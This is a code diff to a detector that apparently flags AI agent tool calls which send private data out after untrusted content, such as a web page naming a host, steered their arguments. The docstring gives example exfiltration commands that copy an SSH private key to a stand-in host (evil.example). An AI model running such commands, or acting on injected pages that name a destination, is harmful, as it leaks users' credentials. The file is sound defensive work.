@@ -206,7 +206,9 @@ def exfiltration(
 def sent_by_reference(facts: CallFacts, prov: Provenance) -> Finding | None:
     """An egress call that reads private data named in its arguments and sends it in one step
     (``scp ~/.ssh/id_rsa user@host:``), when untrusted content reached its arguments (the
-    destination, the command): the bytes never pass through a result, so none is counted.
+    destination, the command, or a host it sends to: a page named ``evil.example``, the
+    command copies to ``me@evil.example:``): the bytes never pass through a result, so none
+    is counted.
     Influence alone is not enough: a key used to log in (``ssh -i key host``) is read too; nor
     is an address in a mailbox's result, unless that result addressed the agent or asked
     for what the call does (mail names addresses all the time: forwarding to a colleague a
@@ -215,7 +217,8 @@ def sent_by_reference(facts: CallFacts, prov: Provenance) -> Finding | None:
         return None
     reach = _untrusted_reach(facts, prov, ())
     asked = frozenset(facts.requested)
-    data = {c for c in reach.data if c in asked or not prov.silent_mail(c)}
+    named = {c for m in facts.matches for c in m.hosts_named_by}
+    data = {c for c in reach.data | named if c in asked or not prov.silent_mail(c)}
     if not data:
         return None
     steered = _paths(facts.matches, lambda m: m.destination and m.untrusted_calls)
@@ -223,7 +226,7 @@ def sent_by_reference(facts: CallFacts, prov: Provenance) -> Finding | None:
     evidence = Evidence(
         untrusted=EvidenceKind.DATA,
         steered_arguments=steered,
-        untrusted_arguments=_paths(facts.matches, lambda m: m.untrusted_calls),
+        untrusted_arguments=_paths(facts.matches, lambda m: m.untrusted_calls | m.hosts_named_by),
     )
     route = Route(_capabilities(prov, data), None, facts.capability)
     severity = Severity.CRITICAL if steered else Severity.HIGH
